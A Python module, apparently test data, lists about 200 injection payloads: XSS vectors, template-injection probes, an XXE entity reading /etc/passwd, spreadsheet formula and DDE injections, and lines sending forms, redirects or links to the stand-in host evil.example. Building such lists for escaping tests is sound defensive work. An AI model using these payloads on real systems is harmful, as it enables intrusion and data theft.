"""Texts that become script, markup, a formula or another template where somebody forgets to escape them."""

from itertools import product

_BREAKS = ("", '">', "'>", "</title>", "</script>", "-->", "]]>", "</textarea>", "</dd></dl>", "`>")
_TAGS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<iframe src=javascript:alert(1)>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<details open ontoggle=alert(1)>",
    "<video src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=//evil.example><input name=code>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<object data=data:text/html,x>",
)
_ALONE = (
    '" onmouseover="alert(1)', "' autofocus onfocus='alert(1)", '" style="position:fixed', "` onmouseover=alert(1)",
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:x",
    "{{ 7 * 7 }}", "{% include '/etc/passwd' %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{ config }}", "%(name)s",
    "{0.__class__}",    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "%3Cscript%3E",
    "\\u003cscript\\u003e", "\\x3cscript\\x3e",     "<!--", "<![CDATA[", "<?xml version='1.0'?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "^XZ^XA^FDx^FS", "~DGR:X.GRF,1,1,00", "(x)Tj ET /JS (app.alert(1))", "=HYPERLINK(\"//evil.example\",\"x\")",
    "+1+cmd|x", "-1+1", "@SUM(1)",
)  # fmt: skip

PAYLOADS = tuple(dict.fromkeys([f"{b}{tag}" for b, tag in product(_BREAKS, _TAGS)] + list(_ALONE)))
"""About 200, none longer than 100 characters."""
